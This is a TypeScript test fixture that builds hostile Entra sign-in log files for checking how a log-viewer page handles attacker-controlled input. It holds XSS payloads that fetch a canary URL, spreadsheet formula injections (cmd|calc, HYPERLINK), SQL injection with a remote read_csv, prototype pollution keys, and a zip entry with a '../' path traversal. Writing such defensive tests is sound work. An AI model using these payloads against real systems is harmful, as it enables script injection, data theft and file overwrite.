import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Events the page must have loaded from it. */
  readonly events: number;
  /** What the page must say of it, where it is not simply loaded. */
  readonly says?: RegExp;
}

const tenant = '11111111-2222-3333-4444-555555555555';

/** One Entra sign-in with attacker-controlled fields. */
function signIn(n: number, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
    createdDateTime: `2026-05-12T14:${String(n % 60).padStart(2, '0')}:07Z`,
    userPrincipalName: 'alex@contoso.example',
    userDisplayName: 'Alex',
    userId: 'aaaaaaaa-0000-4000-8000-000000000001',
    userType: 'member',
    appId: 'bbbbbbbb-0000-4000-8000-000000000001',
    appDisplayName: 'Contoso portal',
    ipAddress: '192.0.2.10',
    correlationId: 'cccccccc-0000-4000-8000-000000000001',
    conditionalAccessStatus: 'success',
    resourceTenantId: tenant,
    homeTenantId: tenant,
    status: { errorCode: 0 },
    ...fields,
  };
}

/** Files as an attacker would leave them; every script and address in them leads to the canary. */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const script = `<img src=x onerror="fetch('${canary}/xss')"><script>globalThis.pwned=1;fetch('${canary}/script')</script>`;
  const text = (value: unknown) => strToU8(JSON.stringify(value));
  const scripted = signIn(1, { userAgent: script, userDisplayName: script, appDisplayName: `${script}{@html 1}` });
  const formula = signIn(2, {
    appDisplayName: `=cmd|'/c calc'!A0`,
    userAgent: `@SUM(1+1)*cmd|' /C calc'!A0`,
    userDisplayName: `+HYPERLINK("${canary}/f")`,
  });
  const polluted = `[${JSON.stringify(signIn(3, {})).slice(0, -1)},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}]`;
  const huge = signIn(4, { userAgent: 'A'.repeat(10 * 1024 * 1024) });
  const surrogate = `[${JSON.stringify(signIn(5, {})).replace('"Alex"', '"\\ud800 lone"')}]`;
  const sql = signIn(6, {
    appDisplayName: `'; drop table events; -- `,
    userAgent: `"; select * from read_csv('${canary}/csv'); --`,
  });
  const good = gzipSync(text(Array.from({ length: 200 }, (_, i) => signIn(100 + i, { userAgent: `agent ${i}` }))));
  const inner = zipSync({ 'inner.json': text([signIn(7, {})]) });
  return [
    { name: 'script.json', bytes: text([scripted]), events: 1 },
    { name: 'formula.json', bytes: text([formula]), events: 1 },
    { name: 'proto.json', bytes: strToU8(polluted), events: 1 },
    { name: 'huge-agent.json', bytes: text([huge]), events: 1 },
    { name: 'surrogate.json', bytes: strToU8(surrogate), events: 1 },
    { name: 'sql.json', bytes: text([sql]), events: 1 },
    { name: `${script.replaceAll('/', '_')}.json`.slice(0, 120), bytes: text([signIn(8, {})]), events: 1 },
    { name: 'broken.json.gz', bytes: good.subarray(0, Math.floor(good.length / 2)), events: 0, says: /gzip/i },
    { name: 'report.json', bytes: strToU8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), events: 0, says: /PDF/ },
    {
      name: 'nested.zip',
      bytes: zipSync({ 'a/nested.zip': inner, '../escape.json': text([signIn(9, {})]) }),
      events: 2,
    },
    { name: 'empty.csv', bytes: new Uint8Array(0), events: 0, says: /empty/ },
  ];
}
